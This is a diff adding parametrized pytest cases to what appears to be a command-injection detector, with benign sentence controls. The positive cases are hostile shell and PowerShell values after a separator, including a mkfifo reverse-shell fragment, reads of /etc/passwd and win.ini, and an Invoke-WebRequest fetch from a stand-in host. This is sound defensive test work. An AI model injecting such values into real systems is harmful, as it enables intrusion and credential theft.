@@ -167,3 +167,39 @@ def test_windows_account_firewall_and_registry_commands_and_ssi_exec_are_cmdi(va
 )
 def test_sentences_near_those_commands_are_not_cmdi(value: str) -> None:
     assert "cmdi" not in payload_kinds(query="q=" + quote(value))
+
+
+@pytest.mark.parametrize(
+    "value",
+    [
+        ";mkfifo /tmp/f",
+        ";xterm -display 10.0.0.1:1",
+        "|nmap -sV 10.0.0.1",
+        ";printenv",
+        ";lsb_release -a",
+        ";find / -name x",
+        "&type c:\\windows\\win.ini",
+        ";dd if=/etc/passwd",
+        ";strings /etc/passwd",
+        ";Invoke-WebRequest http://203.0.113.9/x",
+        "|iwr http://203.0.113.9/x",
+        ";Get-Process",
+        "&Start-Process calc",
+    ],
+)
+def test_more_unix_and_powershell_commands_after_a_separator_are_cmdi(value: str) -> None:
+    assert "cmdi" in payload_kinds(query="c=" + quote(value, safe=""))
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "date format dd/mm; at 5 pm",
+        "find / replace in word",
+        "sit; fetch the ball",
+        "a get-together; start-up day",
+        "which one?; strings attached",
+    ],
+)
+def test_words_that_are_also_those_commands_stay_quiet(text: str) -> None:
+    assert "cmdi" not in payload_kinds(query="q=" + quote(text))
